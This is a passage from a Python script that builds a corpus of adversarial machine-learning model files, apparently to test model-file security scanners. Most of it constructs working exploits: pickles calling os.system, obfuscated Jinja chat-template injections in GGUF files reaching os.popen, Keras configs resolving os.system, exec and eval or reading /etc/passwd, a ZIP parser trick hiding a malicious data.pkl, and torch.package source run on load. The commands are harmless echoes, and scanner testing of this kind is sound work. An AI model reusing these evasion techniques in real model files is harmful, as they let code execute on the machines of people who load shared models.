    pl = payload(2)
    for name, prefix, why in [('torchzip_unicode_prefix.pt', '\u043c\u043e\u0434\u0435\u043b\u044c', 'non-ASCII archive folder'),
                              ('torchzip_space_dot_prefix.pt', 'my model.v2', 'folder name with a space and a dot'),
                              ('torchzip_deep_prefix.pth', 'a', 'one-letter folder')]:
        add(name, zbytes([(prefix + '/data.pkl', pl), (prefix + '/version', b'3\n')]), c, why, check_pickle=False)
    add('torchzip_backslash_name.pt', zbytes([('archive\\data.pkl', pl), ('archive\\version', b'3\n')]), c,
        'member names with backslashes', check_pickle=False)
    add('torchzip_data_pkl_last.pt', zbytes([('archive/version', b'3\n'), ('archive/data/0', b'\0' * 8),
                                             ('archive/byteorder', b'little'), ('archive/data.pkl', pl)]), c,
        'data.pkl is the last member', check_pickle=False)
    # EOCD inside the real EOCD's comment: loaders that scan backwards for the signature use the inner one
    benign = P(2).const({'w': 1}).stop()
    mal_local = io.BytesIO()
    with zipfile.ZipFile(mal_local, 'w', zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo('archive/data.pkl', FIXED_TIME), pl)
        z.writestr(zipfile.ZipInfo('archive/version', FIXED_TIME), b'3\n')
    mal = mal_local.getvalue()
    eocd_at = mal.rfind(b'PK\x05\x06')
    _, _, _, _, n_cd, cd_size, cd_off, _ = struct.unpack('<4s4H2LH', mal[eocd_at:eocd_at + 22])
    mal_locals = mal[:cd_off]
    mal_cd = mal[cd_off:cd_off + cd_size]
    # benign zip placed after the malicious local records
    ben = zbytes([('archive/data.pkl', benign), ('archive/version', b'3\n')])
    b_eocd = ben.rfind(b'PK\x05\x06')
    _, _, _, _, bn, bsize, boff, _ = struct.unpack('<4s4H2LH', ben[b_eocd:b_eocd + 22])
    shift = len(mal_locals)
    # relocate the benign central directory's local-header offsets by `shift`
    bcd = bytearray(ben[boff:boff + bsize])
    pos = 0
    while pos < len(bcd):
        nlen, elen, clen = struct.unpack('<3H', bcd[pos + 28:pos + 34])
        off = struct.unpack('<L', bcd[pos + 42:pos + 46])[0]
        bcd[pos + 42:pos + 46] = struct.pack('<L', off + shift)
        pos += 46 + nlen + elen + clen
    out = bytearray(mal_locals + ben[:boff])
    bcd_off = len(out)
    out += bcd
    comment_cd_off = len(out) + 22
    fake = struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, n_cd, n_cd, cd_size, comment_cd_off, 0)
    comment = mal_cd + fake
    out += struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, bn, bn, bsize, bcd_off, len(comment)) + comment
    add('zip_eocd_in_comment.pt', bytes(out), 'zip parser differential',
        'real EOCD -> benign data.pkl; its comment holds a 2nd central directory + EOCD -> malicious data.pkl, which '
        'Python zipfile and miniz (torch) pick because they take the last EOCD signature', check_pickle=False)
    # torch.package archive with python source that runs on load_pickle
    src = b"import os\nos.system('echo mlsec-blind2')\nclass M:\n    pass\n"
    model = P(3).glob('mymodel', 'M').empty_tuple().newobj().stop()
    add('torch_package_source.pt', zbytes([('pkg/.data/version', b'6\n'), ('pkg/.data/extern_modules', b''),
                                           ('pkg/mymodel.py', src), ('pkg/model/model.pkl', model)]),
        'python source shipped in a torch.package archive', 'PackageImporter.load_pickle imports mymodel.py from the archive',
        check_pickle=False)
    # legacy torch.save stream: payload in the 1st (magic), 2nd (protocol) or 4th (storage keys) pickle
    magic = P(2).op(b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little')).stop()
    proto = P(2).i(1001).stop()
    sysinfo = P(2).const({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}).stop()
    main = P(2).const({'w': 1}).stop()
    keys = P(2).const([]).stop()
    add('torch_legacy_payload_magic.pt', pl + proto + sysinfo + main + keys, 'legacy torch stream',
        'the first pickle (where the magic number belongs) is the payload', check_pickle=False)
    add('torch_legacy_payload_sysinfo.pt', magic + proto + pl + main + keys, 'legacy torch stream',
        'the sys_info pickle is the payload', check_pickle=False)
    add('torch_legacy_payload_storage_keys.pt', magic + proto + sysinfo + main + pl, 'legacy torch stream',
        'torch.load unpickles the storage-keys list after the main pickle: payload there', check_pickle=False)


# ---------------------------------------------------------------- keras
_H5 = []


def empty_h5():
    """A real, tiny HDF5 weights file (Keras 3 writes one even for a model without weights)."""
    if not _H5:
        import tempfile
        import h5py
        with tempfile.TemporaryDirectory() as td:
            path = os.path.join(td, 'w.h5')
            with h5py.File(path, 'w', libver='earliest') as f:
                f.create_group('layers')
                f.create_group('vars')
            with open(path, 'rb') as f:
                _H5.append(f.read())
    return _H5[0]


def keras_zip(config, extra=(), dup=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo('metadata.json', FIXED_TIME),
                   json.dumps({'keras_version': '3.8.0', 'date_saved': '2026-01-01@00:00:00'}))
        if dup is not None:
            z.writestr(zipfile.ZipInfo('config.json', FIXED_TIME), json.dumps(dup))
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter('ignore')
            z.writestr(zipfile.ZipInfo('config.json', FIXED_TIME), json.dumps(config))
        z.writestr(zipfile.ZipInfo('model.weights.h5', FIXED_TIME), empty_h5())
        for n, d in extra:
            z.writestr(zipfile.ZipInfo(n, FIXED_TIME), d)
    return buf.getvalue()


def layer(cls, config, module='keras.layers'):
    return {'module': module, 'class_name': cls, 'config': config, 'registered_name': None}


def lam(name='lam'):
    code = base64.b64encode(b'fake marshal bytes: mlsec-blind2').decode()
    return layer('Lambda', {'name': name, 'trainable': True, 'dtype': 'float32',
                            'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}},
                            'output_shape': None, 'arguments': {}})


def seq(layers, name='seq'):
    return {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': name, 'trainable': True, 'layers': layers},
            'registered_name': None, 'build_config': {'input_shape': [None, 4]}}


def inp():
    return layer('InputLayer', {'batch_shape': [None, 4], 'dtype': 'float32', 'name': 'in'})


def dense(**kw):
    cfg = {'name': 'd', 'units': 2, 'activation': 'linear', 'use_bias': True, 'trainable': True, 'dtype': 'float32'}
    cfg.update(kw)
    return layer('Dense', cfg)


def keras():
    c = 'Keras config reaches code'
    functional = {'module': 'keras', 'class_name': 'Functional', 'registered_name': 'Functional',
                  'config': {'name': 'inner', 'trainable': True,
                             'layers': [{'module': 'keras.layers', 'class_name': 'InputLayer', 'name': 'in',
                                         'config': {'batch_shape': [None, 4], 'dtype': 'float32', 'name': 'in'},
                                         'inbound_nodes': []},
                                        dict(lam(), name='lam', inbound_nodes=[{'args': [{'class_name': '__keras_tensor__',
                                             'config': {'shape': [None, 4], 'dtype': 'float32', 'keras_history': ['in', 0, 0]}}],
                                             'kwargs': {}}])],
                             'input_layers': [['in', 0, 0]], 'output_layers': [['lam', 0, 0]]}}
    add('keras_lambda_in_functional_in_sequential.keras', keras_zip(seq([inp(), functional])), c,
        'Lambda (Keras 3 __lambda__ dict) inside a Functional model nested in a Sequential (CVE-2024-3660 family)',
        check_pickle=False)
    rnn = layer('RNN', {'name': 'rnn', 'cell': lam('cell'), 'return_sequences': False, 'trainable': True})
    add('keras_lambda_as_rnn_cell.keras', keras_zip(seq([inp(), rnn])), c, 'Lambda given as the cell of an RNN layer',
        check_pickle=False)
    td = layer('TimeDistributed', {'name': 'td', 'layer': layer('Bidirectional', {'name': 'bi', 'layer': lam('l'),
                                                                               'merge_mode': 'concat'})})
    add('keras_lambda_in_bidirectional_in_timedistributed.keras', keras_zip(seq([inp(), td])), c,
        'Lambda two wrappers deep', check_pickle=False)
    act = {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'system'}
    add('keras_dense_activation_os_system.keras', keras_zip(seq([inp(), dense(activation=act)])), c,
        'Dense activation deserialised by module path -> os.system (CVE-2025-1550 family)', check_pickle=False)
    cfg = seq([inp(), dense()])
    cfg['compile_config'] = {'optimizer': 'adam', 'loss': {'module': 'builtins', 'class_name': 'function', 'config': 'exec',
                                                          'registered_name': 'exec'}, 'metrics': None}
    add('keras_compile_config_loss_exec.keras', keras_zip(cfg), c, 'compile_config loss resolves builtins.exec',
        check_pickle=False)
    il = layer('IntegerLookup', {'name': 'il', 'vocabulary': '/etc/passwd', 'max_tokens': None, 'num_oov_indices': 1})
    add('keras_integerlookup_file.keras', keras_zip(seq([inp(), il])), c,
        'IntegerLookup vocabulary read from a local file (CVE-2025-12058 family)', check_pickle=False)
    ant = layer('Geohash', {'name': 'g'}, module='antigravity')
    add('keras_layer_module_import.keras', keras_zip(seq([inp(), ant])), c,
        'layer module path imports an arbitrary module (antigravity opens a browser)', check_pickle=False)
    add('keras_duplicate_config_last_wins.keras', keras_zip(seq([inp(), lam()]), dup=seq([inp(), dense()])), c,
        'two config.json members: first benign, the last (what zipfile returns) has a Lambda', check_pickle=False)
    actl = layer('Activation', {'name': 'a', 'activation': {'module': 'builtins', 'class_name': 'function', 'config': 'eval'}})
    add('keras_activation_layer_eval.keras', keras_zip(seq([inp(), actl])), c, 'Activation layer whose function is builtins.eval',
        check_pickle=False)
    # Keras 2 H5: Lambda inside Bidirectional in the model_config attribute
    import h5py
    import numpy as np
    path = os.path.join(OUT, 'keras_h5_lambda_in_bidirectional.h5')
    lam2 = {'class_name': 'Lambda', 'config': {'name': 'l', 'function': [base64.b64encode(b'fake marshal').decode(), None, None],
                                               'function_type': 'lambda', 'arguments': {}}}
    mc = {'class_name': 'Sequential', 'config': {'name': 's', 'layers': [
        {'class_name': 'Bidirectional', 'config': {'name': 'bi', 'layer': lam2, 'merge_mode': 'concat'}}]}}
    with h5py.File(path, 'w', track_order=True) as f:
        f.attrs['model_config'] = json.dumps(mc)
        f.attrs['keras_version'] = '2.15.0'
        f.attrs['backend'] = 'tensorflow'
        f.create_group('model_weights')
    ROWS.append(('keras_h5_lambda_in_bidirectional.h5', c, 'H5 Lambda nested in Bidirectional (CVE-2024-3660)', 'not-clean'))
    path = os.path.join(OUT, 'keras_h5_training_config_loss_module.h5')
    with h5py.File(path, 'w', track_order=True) as f:
        f.attrs['model_config'] = json.dumps({'class_name': 'Sequential', 'config': {'name': 's', 'layers': []}})
        f.attrs['training_config'] = json.dumps({'loss': {'module': 'subprocess', 'class_name': 'function', 'config': 'getoutput',
                                                          'registered_name': 'getoutput'}, 'optimizer_config': {'class_name': 'Adam', 'config': {}}})
        f.attrs['keras_version'] = '3.8.0'
        f.create_group('model_weights')
    p0 = P(0).g('os', 'system').mark().s(CMD).tup().reduce().stop()
    path = os.path.join(OUT, 'pytables_attr_pickle_pandas.h5')
    with h5py.File(path, 'w', track_order=True) as f:
        f.attrs['PYTABLES_FORMAT_VERSION'] = np.bytes_(b'2.1')
        f.attrs['CLASS'] = np.bytes_(b'GROUP')
        f.attrs['VERSION'] = np.bytes_(b'1.0')
        g = f.create_group('df')
        g.attrs['CLASS'] = np.bytes_(b'GROUP')
        g.attrs['VERSION'] = np.bytes_(b'1.0')
        g.attrs['pandas_type'] = np.bytes_(b'frame_table')
        g.attrs['pandas_version'] = np.bytes_(b'0.15.2')
        g.attrs['non_index_axes'] = np.bytes_(p0)
    ROWS.append(('pytables_attr_pickle_pandas.h5', 'pickle inside an HDF5 attribute',
                 'PyTables unpickles any string attribute that ends with "." (tables/attributeset.py); pandas.read_hdf reads '
                 'non_index_axes', 'not-clean'))
    path = os.path.join(OUT, 'pytables_attr_pickle_title.h5')
    with h5py.File(path, 'w', track_order=True) as f:
        f.attrs['PYTABLES_FORMAT_VERSION'] = np.bytes_(b'2.1')
        f.attrs['CLASS'] = np.bytes_(b'GROUP')
        f.attrs['TITLE'] = np.bytes_(p0)
    ROWS.append(('pytables_attr_pickle_title.h5', 'pickle inside an HDF5 attribute', 'root TITLE attribute is a pickle',
                 'not-clean'))
    ROWS.append(('keras_h5_training_config_loss_module.h5', c, 'H5 training_config loss resolved by module path (subprocess.getoutput)',
                 'not-clean'))


# ---------------------------------------------------------------- gguf
def gguf(kvs, version=3):
    out = bytearray(b'GGUF' + struct.pack('<I', version))
    cnt = '<Q' if version >= 2 else '<I'
    out += struct.pack(cnt, 0) + struct.pack(cnt, len(kvs))
    for k, v in kvs:
        kb = k.encode()
        out += struct.pack(cnt, len(kb)) + kb
        vb = v.encode()
        out += struct.pack('<I', 8) + struct.pack(cnt, len(vb)) + vb
    return bytes(out)


def ggufs():
    c = 'GGUF chat template reaches code without __ or globals literals'
    t1 = ("{% set u = '%c'|format(95) %}{% set g = u~u~'glo'~'bals'~u~u %}"
          "{{ (lipsum|attr(g)).os.popen('echo mlsec-blind2').read() }}")
    t2 = "{{ (lipsum|attr(['_','_','glo','bals','_','_']|join)).os.popen('echo mlsec-blind2').read() }}"
    t3 = ("{% set u = '_' %}{% set d = u*2 %}{{ ((cycler|attr(d~'init'~d))|attr(d~'glob'~'als'~d))"
          ".os.popen('echo mlsec-blind2').read() }}")
    t4 = "{{ (joiner|attr('\\u005f\\u005finit\\u005f\\u005f')|attr('\\u005f\\u005fglobals\\u005f\\u005f')).os.system('echo mlsec-blind2') }}"
    t5 = ("{% for m in messages %}{{ m.content }}{% endfor %}"
          "{% set x = namespace|attr(dict(_=1)|list|first*2 ~ 'init' ~ dict(_=1)|list|first*2) %}"
          "{{ (x|attr('_'*2~'globals'~'_'*2)).os.popen('echo mlsec-blind2').read() }}")
    for i, t in enumerate([t1, t2, t3, t4, t5], 1):
        add('gguf_ssti_blind2_%d.gguf' % i, gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', t)]), c,
            'CVE-2024-34359 family: %s' % ['%c format', 'list join', 'string multiply', 'unicode escapes',
                                            'dict keys + multiply, in a normal loop'][i - 1], check_pickle=False)
    add('gguf_v2_ssti.gguf', gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', t2)], version=2), c,
        'GGUF version 2 header', check_pickle=False)
    add('gguf_tool_use_template.gguf', gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', '{{ messages }}'),
                                             ('tokenizer.chat_template.tool_use', t1)]), c,
        'benign default template, malicious tool_use template', check_pickle=False)


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    evaluators()
    importers()
    code_objects()
    io_helpers()
    opcodes()
    numpy_containers()
    containers()
    torch_containers()
    keras()
    ggufs()
    more()
    with open(os.path.join(OUT, 'MANIFEST.tsv'), 'w') as f:
        f.write('file\tclass\tsource\texpected\n')
        for r in ROWS:
            f.write('\t'.join(r) + '\n')
    total = sum(os.path.getsize(os.path.join(OUT, n)) for n in os.listdir(OUT))
    print('%d adversarial files, %d bytes' % (len(ROWS), total))



# ---------------------------------------------------------------- round 2 (added before the first scan was read in detail)
def more():
    c = 'allow-listed reconstructor with a callable argument (numpy >= 1.25 shape)'
    add('numpy_generator_ctor_loadtxt.pkl', P(4).glob('numpy.random._pickle', '__generator_ctor').mark().s(URL)
        .glob('numpy', 'loadtxt').tup().reduce().stop(), c,
        'numpy>=1.25 __generator_ctor(name, ctor) calls ctor(name): np.loadtxt(URL) downloads')
    add('numpy_randomstate_ctor_load.pkl', P(4).glob('numpy.random._pickle', '__randomstate_ctor').mark().s(TMP + '.npy')
        .glob('numpy', 'load').tup().reduce().stop(), c, '__randomstate_ctor(name, ctor) calls ctor(name): np.load(file)')
    add('numpy_generator_ctor_sympify.pkl', P(4).glob('numpy.random._pickle', '__generator_ctor').mark().s(PY)
        .glob('sympy', 'sympify').tup().reduce().stop(), c, '__generator_ctor(src, sympy.sympify) evaluates src')
    add('inst_sympy_sympify.pkl', P(0).mark().s(PY).inst('sympy', 'sympify').stop(), 'INST/OBJ opcodes with an innocent evaluator',
        'INST sympy.sympify (protocol 0)')
    add('obj_pil_imagemath_eval.pkl', P(2).mark().glob('PIL.ImageMath', 'eval').s(PY).obj().stop(),
        'INST/OBJ opcodes with an innocent evaluator', 'OBJ PIL.ImageMath.eval')
    inner = payload(4)
    for name, dt in [('joblib_dtype_from_class.joblib', lambda w: w.glob('numpy', 'dtype').mark().glob('builtins', 'object').tup().reduce()),
                     ('joblib_dtype_word_object.joblib', lambda w: w.glob('numpy', 'dtype').mark().s('object').tup().reduce())]:
        w = P(4)
        w.glob('joblib.numpy_pickle', 'NumpyArrayWrapper').empty_tuple().newobj()
        w.mark().s('subclass').glob('numpy', 'ndarray').s('shape').const((1,)).s('order').s('C').s('dtype')
        dt(w)
        w.s('allow_mmap').false().dct().build()
        add(name, bytes(w.b) + inner + b'.', 'nested pickle in joblib', 'object dtype spelled as a class / as the word object',
            check_pickle=False)
    add('npy_descr_object_word.npy', npy_bytes({'descr': 'object', 'fortran_order': False, 'shape': (1,)}, payload()),
        'nested pickle in a numpy container', "descr 'object' (np.dtype accepts the word)", check_pickle=False)
    for name, method in [('pandas_zip_lzma_member.pkl.zip', zipfile.ZIP_LZMA), ('pandas_zip_bzip2_member.pkl.zip', zipfile.ZIP_BZIP2)]:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, 'w') as z:
            zi = zipfile.ZipInfo('frame.pkl', FIXED_TIME)
            zi.compress_type = method
            z.writestr(zi, payload(4))
        add(name, buf.getvalue(), 'compression container', 'pandas.read_pickle(zip) through Python zipfile, member method %d' % method,
            check_pickle=False)
    src = b"import os\nos.system('echo mlsec-blind2')\n"
    model = P(3).glob('sub.mod', 'M').empty_tuple().newobj().stop()
    add('torch_package_nested_source.pt', zbytes([('pkg/.data/version', b'6\n'), ('pkg/sub/__init__.py', b''),
                                                  ('pkg/sub/mod.py', src + b'class M:\n    pass\n'), ('pkg/m/model.pkl', model)]),
        'python source shipped in a torch.package archive', 'module in a sub-package', check_pickle=False)
    add('torch_package_init_source.pt', zbytes([('pkg/.data/version', b'6\n'), ('pkg/evil/__init__.py', src + b'class M:\n    pass\n'),
                                                ('pkg/data.pkl', P(3).glob('evil', 'M').empty_tuple().newobj().stop())]),
        'python source shipped in a torch.package archive', 'package __init__.py code, pickle named data.pkl', check_pickle=False)

    p = P(4)
    p.glob('builtins', 'getattr').mark().glob('numpy', 'ndarray').s('tofile').tup().reduce()
    p.mark().glob('numpy.core.multiarray', '_reconstruct').mark().glob('numpy', 'ndarray').const((0,)).by(b'b').tup().reduce()
    p.s(TMP + '.bin').tup().reduce()
    add('getattr_class_unbound_tofile.pkl', p.stop(), 'bound method of a rebuilt allow-listed object, called',
        'getattr(numpy.ndarray, "tofile")(arr, path): unbound method of an allow-listed class, called')
    p = P(4)
    p.glob('functools', 'partial').mark().glob('xgboost.core', 'Booster').none().none().s(TMP + '.json').tup().reduce()
    p.empty_tuple().reduce()
    add('partial_booster_model_file.pkl', p.stop(), 'functools.partial with an allow-listed class',
        'partial(xgboost.core.Booster, None, None, model_file)(): reads a file')
    # a bound method of a rebuilt allow-listed object, then called
    for name, meth, args, why in [('getattr_ndarray_tofile_call.pkl', 'tofile', (TMP + '.bin',), 'writes a file'),
                                  ('getattr_ndarray_dump_call.pkl', 'dump', (TMP + '.pkl',), 'writes a pickle file')]:
        p = P(4)
        p.glob('builtins', 'getattr').mark()
        p.glob('numpy.core.multiarray', '_reconstruct').mark().glob('numpy', 'ndarray').const((0,)).by(b'b').tup().reduce()
        p.mark().i(1).const((2,)).glob('numpy', 'dtype').mark().s('f8').false().true().tup().reduce()
        p.mark().i(3).s('<').none().none().none().i(-1).i(-1).i(0).tup().build()
        p.false().by(b'\0' * 16).tup().build()
        p.s(meth).tup().reduce().const(args).reduce()
        add(name, p.stop(), 'bound method of a rebuilt allow-listed object, called',
            'getattr(ndarray, %r)(path): the benign getattr(obj, method) shape, but called: %s' % (meth, why))


if __name__ == '__main__':
    main()
